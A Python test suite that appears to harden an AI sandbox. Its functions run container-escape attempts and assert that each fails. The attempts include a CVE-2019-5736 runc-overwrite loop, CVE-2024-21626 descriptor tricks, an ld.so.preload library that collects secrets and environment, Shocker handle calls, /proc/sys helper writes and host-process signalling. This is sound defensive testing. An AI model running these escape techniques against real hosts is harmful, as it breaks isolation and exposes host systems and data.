"""Leaving the sandbox for the host."""

import asyncio
import hashlib
import os
from pathlib import Path

from adversary.case import Skip, alone
from adversary.scene import Scene, x86_only


async def attack_mounting(scene: Scene) -> None:
    """Mount, bind, move and unmount, by the old and the new calls: seccomp refuses them all."""
    x86_only()
    await scene.fails(
        """
        none, tmp = b'none', b'/tmp'
        expect('mount tmpfs', call(165, none, tmp, b'tmpfs', 0, 0))
        expect('bind', call(165, b'/', tmp, none, 0x1000, 0))
        expect('remount rw', call(165, none, b'/run/journeyman', none, 0x20 | 0x1000, 0))
        expect('proc', call(165, b'proc', tmp, b'proc', 0, 0))
        expect('cgroup2', call(165, none, tmp, b'cgroup2', 0, 0))
        expect('umount', call(166, b'/proc', 2))
        expect('umount a mask', call(166, b'/proc/kcore', 2))
        expect('pivot_root', call(155, b'/', b'/tmp'))
        for number in (428, 429, 430, 431, 432, 433, 442, 467):
            expect(number, call(number, -100, b'/', 1, 0, 0))
        """
    )


async def attack_new_namespaces(scene: Scene) -> None:
    """Namespaces of one's own would give capabilities and mounts: every way to make one is refused."""
    x86_only()
    await scene.fails(
        """
        for bit in (0x80, 0x20000, 0x2000000, 0x4000000, 0x8000000, 0x10000000, 0x20000000, 0x40000000):
            expect(f'unshare {bit:x}', call(272, bit))
        for bit in (0x20000, 0x2000000, 0x4000000, 0x8000000, 0x10000000, 0x20000000, 0x40000000):
            for high in (0, 1 << 32, 1 << 40):
                expect(f'clone {bit:x}', call(56, high | bit | 17, 0, 0, 0, 0))
        flags = ctypes.create_string_buffer(struct.pack('11Q', 0x10000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0))
        expect('clone3', call(435, flags, 88))
        """
    )


async def attack_entering_namespaces(scene: Scene) -> None:
    """setns to the namespaces of init, by file and by process descriptor, is refused."""
    x86_only()
    await scene.fails(
        """
        for name in os.listdir('/proc/1/ns'):
            descriptor = os.open('/proc/1/ns/' + name, os.O_RDONLY)
            expect('setns ' + name, call(308, descriptor, 0))
        expect('setns pidfd', call(308, os.pidfd_open(1), 0x20000))
        for request in (0xb701, 0xb702):
            said = attempt(lambda: fcntl.ioctl(os.open('/proc/self/ns/user', os.O_RDONLY), request))
            expect(f'the parent of the user namespace {request:x}', said, 'EPERM')
        """
    )


async def attack_chroot_twice(scene: Scene) -> None:
    """The classic way out of a chroot ends at the sandbox's own root, which is a root of the mount namespace."""
    said = await scene.python(
        """
        os.makedirs('/tmp/jail', exist_ok=True)
        here = os.open('/', os.O_RDONLY)
        os.chroot('/tmp/jail')
        os.fchdir(here)
        for _ in range(100): os.chdir('..')
        os.chroot('.')
        print(os.path.exists(sys.argv[1]), os.path.exists('/run/journeyman/main.in'))
        """,
        str(scene.secret_file),
    )
    assert said == "False True\n", said


async def attack_links_of_the_kernel(scene: Scene) -> None:
    """root, cwd and descriptors of every process lead into the sandbox: no `..` behind them meets the host."""
    said = await scene.python(
        """
        up, found = '/..' * 40, []
        for pid in filter(str.isdigit, os.listdir('/proc')):
            places = [f'/proc/{pid}/root', f'/proc/{pid}/cwd']
            try: places += [f'/proc/{pid}/fd/{fd}' for fd in os.listdir(f'/proc/{pid}/fd')]
            except OSError: pass
            for place in places:
                for path in (place + sys.argv[1], place + up + sys.argv[1]):
                    if os.path.exists(path): found.append(path)
        print(found)
        """,
        str(scene.secret_file),
    )
    assert said == "[]\n", said


async def attack_inherited_descriptors(scene: Scene) -> None:
    """No process was given a descriptor of the host: no directory, no lock, no file outside (CVE-2024-21626)."""
    said = await scene.python(
        """
        own = ('/run/journeyman/', '/dev/null', '/proc/', '/tmp/', 'pipe:', '/workspace', 'anon_inode:')
        for pid in filter(str.isdigit, os.listdir('/proc')):
            if int(pid) == os.getpid(): continue
            try: fds = os.listdir(f'/proc/{pid}/fd')
            except OSError: continue
            for fd in fds:
                try: target = os.readlink(f'/proc/{pid}/fd/{fd}')
                except OSError: continue
                if not target.startswith(own) or os.path.isdir(f'/proc/{pid}/fd/{fd}'): print(pid, fd, target)
        """
    )
    assert said == "", said


@alone
async def attack_working_directory_as_a_descriptor(scene: Scene) -> None:
    """The next start finds the working directory to be a link to a descriptor the runtime may hold (CVE-2024-21626)."""
    for number in (3, 7, 8):
        await scene.sh(f"cd /; rm -rf /workspace; ln -s /proc/self/fd/{number} /workspace")
        await scene.restart()
        said = await scene.said(f"cat .{'/..' * 30}{scene.secret_file}; cat /proc/*/cwd/../../../..{scene.secret_file}")
        assert scene.secret not in said
        said = await scene.said("cd /; echo alive")
        assert said.endswith("alive\n"), said
    for _, path in await _links(await scene.pid(scene.box)):
        assert not path.startswith(str(scene.data_dir)), path


async def _links(init: int) -> list[tuple[int, str]]:
    """Where the processes of a sandbox stand, as the host sees it."""
    found = [init, *map(int, Path(f"/proc/{init}/task/{init}/children").read_text().split())]
    return [(pid, str(Path(f"/proc/{pid}/cwd").readlink())) for pid in found]


@alone
async def attack_working_directory_that_is_no_directory(scene: Scene) -> None:
    """A pipe, a file, a dangling or a looping link in place of /workspace must not keep the sandbox from starting."""
    for harm in (
        "mkfifo /workspace",
        "echo x >/workspace",
        "ln -s /none/where /workspace",
        "ln -s workspace /workspace",
    ):
        await scene.sh(f"cd /; rm -rf /workspace; {harm}")
        await scene.restart()
        said = await scene.said("cd /; echo alive")
        assert said == "alive\n", (harm, said)


@alone
async def attack_the_runtimes_program(scene: Scene) -> None:
    """Programs that become the runtime's own binary and overwrite it (CVE-2019-5736): nothing is executed by it inside."""
    runtime = Path("/usr/sbin/runc")
    if not runtime.exists():
        raise Skip("runc is elsewhere")
    before = hashlib.sha256(runtime.read_bytes()).hexdigest()
    await scene.sh(
        "for p in /opt/venv/bin/bash /opt/venv/bin/sh /usr/local/bin/bash /usr/local/bin/sh; do"
        "  printf '#!/proc/self/exe\\n' >$p; chmod 755 $p; done;"
        "cat >/tmp/overwrite.sh <<'X'\nwhile :; do for p in /proc/[0-9]*/exe; do"
        "  case $(readlink $p) in *runc*) echo owned >$p;; esac; done; done\nX\n"
    )
    await scene.sh("/usr/bin/bash /tmp/overwrite.sh >/dev/null 2>&1 & disown")
    await asyncio.gather(*(scene.boxes.exec(scene.box, ["/usr/bin/true"], cwd="/") for _ in range(10)))
    await scene.restart()
    await scene.sh("rm -f /opt/venv/bin/bash /opt/venv/bin/sh /usr/local/bin/bash /usr/local/bin/sh")
    assert hashlib.sha256(runtime.read_bytes()).hexdigest() == before


@alone
async def attack_the_next_start(scene: Scene) -> None:
    """A library that every program of the next start loads first sees nothing of the host, runtime or server."""
    source = """
    #include <stdio.h>
    #include <stdlib.h>
    #include <unistd.h>
    __attribute__((constructor)) static void first(void) {
      char line[4096]; snprintf(line, sizeof line, "cat %s >>/tmp/loot 2>/dev/null; env >>/tmp/loot; "
        "ls -l /proc/%d/fd >>/tmp/loot; cat /proc/%d/maps >>/tmp/loot", SECRET, getpid(), getpid());
      if (!getenv("LOOTING")) { setenv("LOOTING", "1", 1); system(line); unsetenv("LOOTING"); }
    }
    """
    await scene.put("/tmp/first.c", source.replace("SECRET", f'"{scene.secret_file}"').encode())
    built = await scene.sh("gcc -w -shared -fPIC -o /usr/local/lib/first.so /tmp/first.c")
    if built.exit_code != 0:
        raise Skip("there is no gcc inside")
    await scene.sh("echo /usr/local/lib/first.so >/etc/ld.so.preload")
    await scene.restart()
    loot = await scene.said("cat /tmp/loot; rm -f /etc/ld.so.preload /tmp/loot")
    assert "JOURNEYMAN_WORKDIR" in loot, "the attack was not carried out"
    assert scene.secret not in loot and "JOURNEYMAN_PLANTED" not in loot


async def attack_helpers_the_kernel_runs(scene: Scene) -> None:
    """core_pattern, modprobe, hotplug, binfmt_misc, sysrq and the rest of /proc/sys are read-only."""
    await scene.fails(
        """
        paths = ['/proc/sysrq-trigger', '/proc/sys/fs/binfmt_misc/register', '/sys/kernel/uevent_helper']
        names = ['core_pattern', 'modprobe', 'hotplug', 'poweroff_cmd', 'sysrq', 'panic', 'randomize_va_space',
            'yama/ptrace_scope', 'unprivileged_bpf_disabled', 'dmesg_restrict', 'hostname', 'domainname', 'ns_last_pid',
            'threads-max', 'shmmax', 'msgmax', 'pid_max']
        paths += ['/proc/sys/kernel/' + name for name in names]
        paths += ['/proc/sys/vm/drop_caches', '/proc/sys/vm/overcommit_memory', '/proc/sys/fs/file-max',
            '/proc/sys/fs/protected_hardlinks', '/proc/sys/fs/suid_dumpable', '/proc/sys/net/ipv4/ip_forward',
            '/proc/irq/default_smp_affinity', '/proc/bus/pci/00/00.0', '/proc/fs/jbd2', '/proc/acpi/wakeup',
            '/proc/scsi/scsi', '/proc/mtrr', '/proc/timer_stats', '/proc/dynamic_debug/control', '/proc/latency_stats',
            '/proc/1/timens_offsets', '/proc/self/uid_map', '/proc/self/gid_map', '/proc/self/setgroups',
            '/proc/self/projid_map']
        for path in paths:
            def write():
                with open(path, 'w') as file: file.write('1')
            expect(path, attempt(write), 'EPERM', 'EACCES', 'EROFS', 'ENOENT', 'EINVAL', 'EISDIR')
        """
    )


async def attack_control_groups(scene: Scene) -> None:
    """There is no control group filesystem to leave a limit by, or to have a release_agent run on the host."""
    said = await scene.said(
        "find / -xdev -name release_agent -o -xdev -name cgroup.procs 2>/dev/null; ls -A /sys; cat /proc/self/cgroup"
    )
    assert [line for line in said.splitlines() if not line.endswith(":/")] == [], said


async def attack_devices(scene: Scene) -> None:
    """No device can be made, and none that stands there reaches the host."""
    said = await scene.python(
        """
        import stat
        for name, kind, major, minor in [('mem', 'c', 1, 1), ('kmsg', 'c', 1, 11), ('port', 'c', 1, 4),
                ('fuse', 'c', 10, 229), ('kvm', 'c', 10, 232), ('tun', 'c', 10, 200), ('loop', 'b', 7, 0),
                ('sda', 'b', 8, 0), ('vda', 'b', 254, 0), ('dm', 'b', 253, 0), ('vsock', 'c', 10, 119)]:
            mode = 0o666 | (stat.S_IFCHR if kind == 'c' else stat.S_IFBLK)
            for place in ('/tmp/', '/dev/', '/dev/shm/', '/etc/'):
                expect(place + name, attempt(lambda: os.mknod(place + name, mode, os.makedev(major, minor))))
        def walk(folder):
            for entry in os.scandir(folder):
                if entry.is_dir(follow_symlinks=False): walk(entry.path)
                elif stat.S_ISCHR(entry.stat(follow_symlinks=False).st_mode) and folder != '/dev/pts': print(entry.path)
                elif stat.S_ISBLK(entry.stat(follow_symlinks=False).st_mode): print('block', entry.path)
        walk('/dev')
        """
    )
    known = {f"/dev/{name}" for name in ("null", "zero", "full", "random", "urandom", "tty")}
    assert set(said.split()) <= known, said


async def attack_file_handles(scene: Scene) -> None:
    """Opening the host's root by its inode number (Shocker): calls for file handles are refused."""
    x86_only()
    await scene.fails(
        """
        handle = struct.pack('IiQ', 8, 1, 2)
        for base in ('/', '/etc', '/usr', '/run/journeyman', '/workspace'):
            descriptor = os.open(base, os.O_RDONLY)
            expect('open_by_handle_at', call(304, descriptor, ctypes.create_string_buffer(handle), 0))
            buffer = ctypes.create_string_buffer(struct.pack('Ii', 128, 0) + bytes(128))
            expect('name_to_handle_at', call(303, descriptor, b'', buffer, ctypes.create_string_buffer(8), 0x1000))
        """
    )


@alone
async def attack_overlay_attributes(scene: Scene) -> None:
    """Attributes that redirect an overlay's directories to other places of the host cannot be set, or mean nothing."""
    await scene.python(
        """
        os.makedirs('/usr/local/redirected', exist_ok=True)
        os.makedirs('/workspace/redirected', exist_ok=True)
        for place in ('/usr/local/redirected', '/workspace/redirected', '/etc'):
            for prefix in (b'user.overlay.', b'trusted.overlay.'):
                for name, value in ((b'redirect', sys.argv[1].encode()), (b'opaque', b'y'), (b'metacopy', b''),
                                    (b'origin', b''), (b'whiteout', b'y')):
                    attempt(lambda: os.setxattr(place, prefix + name, value))
        """,
        str(scene.data_dir),
    )
    await scene.restart()
    said = await scene.said(
        "cat /usr/local/redirected/secret /workspace/redirected/secret /etc/secret; ls /etc/services"
    )
    assert scene.secret not in said
    assert said.endswith("/etc/services\n"), said


async def attack_the_base(scene: Scene) -> None:
    """The host's programs cannot be changed through the base, by the sandbox's programs or by the server's writes."""
    before = Path("/usr/bin/env").stat()
    await scene.sh(
        "echo x >/usr/bin/env; rm -f /usr/bin/env; chmod 4777 /usr/bin/env; mv /usr/bin /usr/gone; "
        "touch /usr/bin/env; ln -f /usr/bin/env /usr/local/bin/linked && echo x >/usr/local/bin/linked; "
        "chown 0:0 /usr/bin/env; setfattr -n user.x -v y /usr/bin/env; truncate -s 0 /usr/bin/env"
    )
    with_error = 0
    try:
        await scene.put("/usr/bin/env", b"x")
    except (OSError, Exception):
        with_error += 1
    after = Path("/usr/bin/env").stat()
    assert (before.st_mtime_ns, before.st_mode, before.st_ino, before.st_nlink) == (
        after.st_mtime_ns,
        after.st_mode,
        after.st_ino,
        after.st_nlink,
    )
    assert with_error


async def attack_processes_of_the_host(scene: Scene) -> None:
    """Signals, descriptors, traces and memory of processes of the host: their numbers name nobody inside."""
    x86_only()
    sleeper = await asyncio.create_subprocess_exec("sleep", "1000")
    try:
        said = await scene.python(
            """
            for pid in map(int, sys.argv[1:]):
                if os.path.exists(f'/proc/{pid}'): continue
                expect('kill', attempt(lambda: os.kill(pid, 9)), 'ESRCH')
                expect('killpg', attempt(lambda: os.killpg(pid, 9)), 'ESRCH')
                expect('tgkill', call(234, pid, pid, 9), 'ESRCH')
                expect('pidfd', attempt(lambda: os.pidfd_open(pid)), 'ESRCH')
                expect('ptrace', call(101, 0x4206, pid, 0, 0), 'ESRCH')
                vector = ctypes.create_string_buffer(16)
                expect('process_vm_readv', call(310, pid, vector, 0, vector, 0, 0), 'ESRCH', 'ok')
                expect('prlimit', call(302, pid, 7, 0, ctypes.create_string_buffer(16)), 'ESRCH')
                expect('setpriority', call(141, 0, pid, 19), 'ESRCH')
                expect('affinity', call(203, pid, 8, ctypes.create_string_buffer(b'\\1')), 'ESRCH')
                expect('ioprio', call(251, 1, pid, 0), 'ESRCH')
            """,
            str(sleeper.pid),
            str(os.getpid()),
            str(os.getppid()),
        )
        assert said == "", said
        await scene.sh("kill -9 -1; kill -9 $PPID")
        assert sleeper.returncode is None
    finally:
        sleeper.kill()
        await sleeper.wait()
